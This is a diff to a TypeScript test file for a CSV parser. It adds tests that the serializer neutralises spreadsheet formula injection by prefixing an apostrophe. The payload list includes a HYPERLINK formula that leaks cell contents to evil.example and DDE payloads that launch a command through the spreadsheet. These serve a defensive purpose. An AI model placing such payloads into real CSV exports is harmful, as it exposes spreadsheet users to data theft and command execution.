@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { CsvSyntaxError, parseCsv, serializeCsv } from '../../schemas/csv';
+import { CsvSyntaxError, escapeFormula, parseCsv, serializeCsv } from '../../schemas/csv';
 
 describe('parseCsv', () => {
   it('splits records on CRLF and LF and fields on commas', () => {
@@ -31,7 +31,8 @@ describe('parseCsv', () => {
   });
 
   it('names the line of an unclosed quote, a stray quote, and text after a closing quote', () => {
-    expect(() => parseCsv('a,b\r\n"open,x\r\n')).toThrow(new CsvSyntaxError(2, 'a quoted field is never closed'));
+    // csv-parse names the line where the file ended inside the quote.
+    expect(() => parseCsv('a,b\r\n"open,x\r\n')).toThrow(new CsvSyntaxError(3, 'a quoted field is never closed (the file ends inside it)'));
     expect(() => parseCsv('a,b\r\nx,ab"c\r\n')).toThrow(/line 2: a quote inside an unquoted field/);
     expect(() => parseCsv('a\r\n"multi\nline"tail\r\n')).toThrow(/line 3: a closing quote must be followed/);
   });
@@ -52,5 +53,34 @@ describe('serializeCsv', () => {
       ['3', '""'],
     ];
     expect(parseCsv(serializeCsv(records))).toEqual(records);
+  });
+});
+
+describe('formula injection (OWASP CSV injection)', () => {
+  const payloads = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    '\t=1+1',
+    '\r=1+1',
+  ];
+
+  it.each(payloads)('writes %j as text a spreadsheet will not evaluate', (payload) => {
+    const written = serializeCsv([['name', payload]]);
+    const cell = written.slice('name,'.length).replace(/\r\n$/, '');
+    // The cell's text, unquoted, starts with the escaping apostrophe.
+    const text = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
+    expect(text).toBe(`'${payload}`);
+    expect(escapeFormula(payload)).toBe(`'${payload}`);
+  });
+
+  it('reads back what it wrote, so an export imports unchanged', () => {
+    const records = [['name', 'notes'], ...payloads.map((payload, index) => [String(index), payload])];
+    expect(parseCsv(serializeCsv(records))).toEqual(records);
+  });
+
+  it('leaves harmless cells alone', () => {
+    expect(serializeCsv([['plain', "it's", '1=1', 'a-b', '']])).toBe("plain,it's,1=1,a-b,\r\n");
   });
 });
